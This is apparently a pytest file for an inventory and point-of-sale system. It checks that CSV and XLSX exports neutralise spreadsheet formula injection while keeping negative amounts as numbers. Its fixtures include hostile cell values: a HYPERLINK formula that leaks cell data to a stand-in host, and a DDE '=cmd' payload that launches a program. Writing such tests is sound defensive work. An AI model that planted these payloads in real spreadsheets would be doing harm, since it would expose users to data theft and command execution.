"""Exports that are safe to open: a cell that a spreadsheet would run as a formula is plain text.

Every file is read back as a person's spreadsheet would read it (openpyxl for XLSX, the csv
module for CSV); numbers must stay numbers.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from inventory.catalog_io import export_products, import_products
from inventory.tabular import neutralise
from orto.db import Database
from pos.reports.model import Column, Kind, Report, Table
from pos.reports.render_sheets import write_csv_report, write_xlsx_report
from suppliers.supplier_io import export_suppliers
from tests import factories

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+cmd", "-2+3", "@SUM(A1:A9)", "=1+1"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+39 02 123", "'+39 02 123"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5,00", "-5,00"),  # a negative amount in Italian Excel: a number, not a formula
        ("-12.5", "-12.5"),
        ("Pomodori", "Pomodori"),
        (-500, -500),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
    ],
)
def test_the_rule(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def _catalog_with_hostile_names(db: Database) -> None:
    with db.write() as session:
        for n, name in enumerate(HOSTILE):
            factories.product(session, name, code=f"H{n}", price_cents=150 + n)


def _csv_cells(path: Path, delimiter: str = ";") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def test_catalog_csv_and_xlsx_neutralise_formulas_and_keep_numbers(db: Database, tmp_path: Path) -> None:
    _catalog_with_hostile_names(db)
    export_products(db, tmp_path / "c.csv")
    rows = _csv_cells(tmp_path / "c.csv")
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {f"H{n}": "'" + name for n, name in enumerate(HOSTILE)}
    assert all(not row[1].startswith(("=", "+", "-", "@")) for row in rows[1:])

    export_products(db, tmp_path / "c.xlsx")
    sheet = load_workbook(tmp_path / "c.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    price_col = header.index("prezzo")
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s" and str(row[1].value).startswith("'")
        assert isinstance(row[price_col].value, int | float) and row[price_col].data_type == "n"
    assert sorted(row[price_col].value for row in sheet.iter_rows(min_row=2)) == [1.5, 1.51, 1.52, 1.53, 1.54]


@pytest.mark.parametrize("name", ["c.csv", "c.xlsx"])
def test_a_neutralised_export_imports_back_unchanged(db: Database, tmp_path: Path, name: str) -> None:
    _catalog_with_hostile_names(db)
    export_products(db, tmp_path / name)
    again = import_products(db, tmp_path / name, actor=factories.manager(db))
    assert (again.created, again.updated) == (0, 0)


def test_supplier_export_neutralises_names(db: Database, tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text("codice;nome;citta\nF1;=cmd|' /C calc'!A0;@Rozzano\n", encoding="utf-8")
    from suppliers.supplier_io import import_suppliers

    import_suppliers(db, tmp_path / "in.csv", actor=factories.manager(db))
    export_suppliers(db, tmp_path / "s.csv")
    header, row = _csv_cells(tmp_path / "s.csv")[:2]
    city = header.index("citta")
    assert row[1] == "'=cmd|' /C calc'!A0" and row[city] == "'@Rozzano"
    export_suppliers(db, tmp_path / "s.xlsx")
    cells = [c.value for c in load_workbook(tmp_path / "s.xlsx").worksheets[0][2]]
    assert cells[1] == "'=cmd|' /C calc'!A0" and cells[city] == "'@Rozzano"


def _report() -> Report:
    table = Table(
        "Vendite",
        [Column("Prodotto"), Column("Incasso", Kind.CENTS), Column("Pezzi", Kind.COUNT)],
        rows=[('=HYPERLINK("x")', -500, 3), ("+cmd", 1250, -2), ("Pane", 0, 1)],
    )
    return Report("sales", "Vendite", "=evil site", None, tables=[table])


def test_report_files_neutralise_text_and_keep_negative_numbers(tmp_path: Path) -> None:
    write_csv_report(_report(), tmp_path / "r.csv")
    cells = _csv_cells(tmp_path / "r.csv")
    flat = [c for row in cells for c in row]
    assert '\'=HYPERLINK("x")' in flat and "'+cmd" in flat and "'=evil site" in flat
    assert ['\'=HYPERLINK("x")', "-5,00", "3"] in cells and ["'+cmd", "12,50", "-2"] in cells

    write_xlsx_report(_report(), tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")
    values = [[c.value for c in row] for row in book.worksheets[1].iter_rows(min_row=2)]
    assert values[0][0] == '\'=HYPERLINK("x")' and values[0][1] == -5 and values[1][2] == -2
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
